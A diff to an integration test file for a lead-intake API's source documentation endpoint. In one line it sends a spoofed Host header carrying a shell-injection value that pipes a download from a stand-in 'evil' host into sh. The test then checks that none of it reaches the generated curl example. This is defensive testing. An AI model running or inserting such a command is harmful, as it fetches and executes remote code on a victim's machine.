@@ -41,7 +41,7 @@ for (const dialect of DIALECTS) {
     const submit = (body: unknown, token = tokens.sourceA, headers: Record<string, string> = {}) => api('POST', '/flows/solar/sources/acme-media/submit', { token, body, headers });
 
     beforeAll(async () => {
-      t = await createTestStore(dialect, { LEADPORT_ADMIN_EMAIL: 'admin@example.com', LEADPORT_ADMIN_PASSWORD: 'correct-horse' });
+      t = await createTestStore(dialect, { LEADPORT_ADMIN_EMAIL: 'admin@example.com', LEADPORT_ADMIN_PASSWORD: 'correct-horse', LEADPORT_AUTH_FAILURES_PER_MINUTE: '10000' });
       await applyFlow(t.store, solar);
       await applyFlow(t.store, roofing);
       await ensureFirstAdmin(t.store, t.config);
@@ -308,15 +308,17 @@ for (const dialect of DIALECTS) {
         expect(sum).toBe(report.json.totals.success + report.json.totals.failure + report.json.totals.error);
       });
       it("serves a source's submission docs data", async () => {
-        const docs = await api('GET', '/api/flows/solar/sources/acme-media/docs', { token: tokens.sourceA });
+        // The URL is the listen address (LEADPORT_PUBLIC_URL when set), never the request's Host header.
+        const docs = await api('GET', '/api/flows/solar/sources/acme-media/docs', { token: tokens.sourceA, headers: { host: "evil.example'; curl evil.sh|sh;'" } });
         expect(docs.json).toMatchObject({
           flow: { id: 'solar', name: 'Solar quotes' },
           source: { id: 'acme-media', name: 'Acme Media' },
-          submitUrl: 'http://localhost:80/flows/solar/sources/acme-media/submit',
+          submitUrl: 'http://127.0.0.1:3000/flows/solar/sources/acme-media/submit',
           acceptance: ['email must be valid', 'state must be one of TX, CA, AZ'],
         });
         expect(docs.json.fields).toContainEqual({ name: 'roof_type', label: 'Roof type', type: 'choice', required: false, choices: ['shingle', 'tile', 'metal'] });
-        expect(docs.json.example.curl).toContain("curl -X POST 'http://localhost:80/flows/solar/sources/acme-media/submit'");
+        expect(docs.json.example.curl).toContain("curl -X POST 'http://127.0.0.1:3000/flows/solar/sources/acme-media/submit'");
+        expect(docs.body).not.toContain('evil');
         const tried = await submit(docs.json.example.body);
         expect(tried.json.outcome).toBe('success');
       });
